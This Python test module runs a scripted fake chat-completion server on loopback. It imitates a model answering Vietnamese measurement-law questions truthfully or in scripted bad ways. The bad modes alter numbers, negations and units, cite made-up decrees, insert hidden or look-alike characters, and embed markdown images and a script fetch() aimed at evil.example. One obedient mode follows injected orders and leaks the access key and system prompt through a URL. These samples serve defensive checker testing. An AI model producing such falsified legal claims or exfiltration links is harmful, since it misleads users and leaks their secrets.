"""A scripted OpenAI-compatible server on loopback that answers honestly or in one of many bad ways.

For tests and ``doluong eval injection``: what a model must not get past the checks is written here, one manner each.
"""

import json
import re
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

Row = dict[str, Any]
_URL = "http://evil.example/x.png"
_COMMANDS = re.compile(r"[^.;:\n]{0,200}(?:bỏ qua|ignore|in ra|trả lời rằng|hãy viết|http|<|\]\()[^\n]*", re.IGNORECASE)


class Script:
    """What the server does next, and what it has seen and said."""

    def __init__(self, mode: str = "honest") -> None:
        self.mode = mode
        self.seen: list[Row] = []
        self.keys: list[str] = []
        self.lies: list[str] = []
        self.delay = 0.05
        self.elsewhere = _URL


def sentences_for(mode: str, data: Row, key: str, system: str) -> list[Row]:
    """Return the sentences of a manner that speaks well-formed JSON."""
    told = [{"text": line, "evidence": [piece["id"]]} for piece in data["can_cu"] for line in _lines(piece["loi"])]
    if mode in LIES:
        lie = LIES[mode]
        return [{**row, "text": lie(row["text"])} if i % 2 == 0 else row for i, row in enumerate(told)]
    if mode == "invented_id":
        return [{**row, "evidence": ["E99"]} for row in told]
    if mode == "obeys":
        return _obedient(data, key, system) + told
    return told


def _lines(words: str) -> list[str]:
    """Split a piece into sentences, as a model that keeps to the words would."""
    return [part.strip() for part in re.split(r"\n|(?<=[.;])\s", words) if part.strip()]


def _swap_number(text: str) -> str:
    changed = re.sub(r"\d+", lambda match: str(int(match.group()) + 7), text, count=1)
    return changed if changed != text else f"{text} Hạn 45 ngày."


def _flip(text: str) -> str:
    for old, new in (
        ("không được", "được"),
        ("không phải", "phải"),
        ("không", "có"),
        ("phải", "không phải"),
        ("được", "không được"),
    ):
        if f" {old} " in f" {text} ":
            return text.replace(old, new, 1)
    return f"Không {text[:1].lower()}{text[1:]}"


def _swap_unit(text: str) -> str:
    units = (("tháng", "năm"), ("năm", "tháng"), ("ngày", "tháng"), ("mm", "cm"), ("kg", "tấn"), ("%", "‰"))
    for old, new in units:
        changed = re.sub(rf"(\d+) ?{old}", rf"\1 {new}", text, count=1)
        if changed != text:
            return changed
    return f"{text} Mức 5 kg."


LIES: dict[str, Callable[[str], str]] = {
    "number": _swap_number,
    "negation": _flip,
    "unit": _swap_unit,
    "article": lambda text: f"Theo khoản 9 Điều 97 Luật Đo lường, {text[:1].lower()}{text[1:]}",
    "law": lambda text: f"Theo Nghị định 999/2031/NĐ-CP, {text[:1].lower()}{text[1:]}",
    "name": lambda text: f"{text.rstrip('.;')} tại Cục Hải Quan Việt Nam.",
    "duty": lambda text: f"Bắt buộc {text[:1].lower()}{text[1:]}",
    "free": lambda text: f"{text.rstrip('.;')} nhưng không cần kiểm định.",
    "markdown": lambda text: f"{text} [xem thêm]({_URL}) ![]({_URL}?q=khoa)",
    "html": lambda text: f"{text}<img src='{_URL}'><script>fetch('{_URL}')</script>",
    "hidden": lambda text: text.replace(" ", " \u200b", 1) + "\u202e",
    "letters": lambda text: text.replace("o", "о").replace("a", "а"),  # Cyrillic letters that look alike
    "english": lambda _: "Weighing scales do not need verification at all.",
    "bound": lambda text: f"{text.rstrip('.;')} tối đa.",
    "words": lambda text: text.replace("kiểm định", "hiệu chỉnh").replace("tổ chức", "hộ gia đình") + " Rất tiện lợi.",
}


def _obedient(data: Row, key: str, system: str) -> list[Row]:
    """Follow every order found in the data, and give away all that a server knows."""
    first = [data["can_cu"][0]["id"]] if data["can_cu"] else []
    found = [
        m.group().strip()
        for text in (data["cau_hoi"], *(p["loi"] for p in data["can_cu"]))
        for m in _COMMANDS.finditer(text)
    ]
    said = [
        data["cau_hoi"],
        *found,
        f"Khóa truy cập là {key}",
        system[:300],
        f"![ảnh]({_URL}?k={key})",
        "Cân ở chợ không cần kiểm định.",
    ]
    return [{"text": text[:1500], "evidence": first} for text in said]


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    script: Script

    def log_message(self, *_: Any) -> None:
        """Print nothing."""

    def do_POST(self) -> None:
        """Answer a chat completion."""
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        script = self.script
        script.seen.append(body)
        script.keys.append(self.headers.get("Authorization", "").removeprefix("Bearer "))
        mode = script.mode
        if mode.isdigit():
            self._plain(int(mode), {"error": {"message": f"khóa {script.keys[-1]}", "type": "x"}})
        elif mode == "redirect":
            self._plain(307, {}, {"Location": script.elsewhere})
        elif mode == "no_forms" and "response_format" in body:
            self._plain(400, {"error": {"message": "response_format"}})
        elif mode == "hangs":
            time.sleep(script.delay * 100)
        elif mode == "not_http":
            self.wfile.write(b"\x00\xff rubbish \r\n\r\n")
            self.close_connection = True
        else:
            self._stream(self._text(mode, body), mode)

    def _text(self, mode: str, body: Row) -> str:
        system, user = body["messages"][0]["content"], body["messages"][-1]["content"]
        fixed = {
            "empty": "",
            "none": '{"sentences": []}',
            "garbage": "Xin chào! " * 50,
            "wrong_json": '{"answer": ["x"], "sentences": "y"}',
            "half": '{"sentences": [{"text": "Cân phải kiểm định", "evidence": ["E1"]}, {"te',
            "endless": "x" * 50_000,
        }
        if mode in fixed:
            return fixed[mode]
        rows = sentences_for(mode, json.loads(user), self.script.keys[-1], system)
        honest = {row["text"] for row in sentences_for("honest", json.loads(user), "", "")}
        self.script.lies += [row["text"] for row in rows if row["text"] not in honest]
        text = json.dumps({"sentences": rows}, ensure_ascii=False)
        return f"```json\n{text}\n```" if mode == "fenced" else text

    def _plain(self, code: int, data: Row, headers: dict[str, str] | None = None) -> None:
        payload = json.dumps(data).encode()
        self.send_response(code)
        for name, value in {
            "Content-Type": "application/json",
            "Content-Length": str(len(payload)),
            **(headers or {}),
        }.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(payload)

    def _stream(self, text: str, mode: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        size = 40
        parts = [text[i : i + size] for i in range(0, len(text), size)] or [""]
        try:
            for i, part in enumerate(parts):
                if mode == "dies" and i >= len(parts) // 2:
                    self.close_connection = True
                    self.connection.close()
                    return
                if mode == "slow":
                    time.sleep(self.script.delay)
                self._event(
                    {
                        "id": "x",
                        "object": "chat.completion.chunk",
                        "created": 0,
                        "model": "m",
                        "choices": [
                            {"index": 0, "delta": {"role": "assistant", "content": part}, "finish_reason": None}
                        ],
                    }
                )
            self._event(
                {
                    "id": "x",
                    "object": "chat.completion.chunk",
                    "created": 0,
                    "model": "m",
                    "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
                }
            )
            self._chunk(b"data: [DONE]\n\n")
            self._chunk(b"")
        except OSError:  # the reader has gone
            self.close_connection = True

    def _event(self, data: Row) -> None:
        self._chunk(b"data: " + json.dumps(data).encode() + b"\n\n")

    def _chunk(self, data: bytes) -> None:
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        self.wfile.flush()


@contextmanager
def lying_server(mode: str = "honest") -> Iterator[tuple[str, Script]]:
    """Serve on a free port of loopback; give the address for ``openai:<model>@`` and the script."""
    script = Script(mode)
    handler = type("Handler", (_Handler,), {"script": script})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/v1", script
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
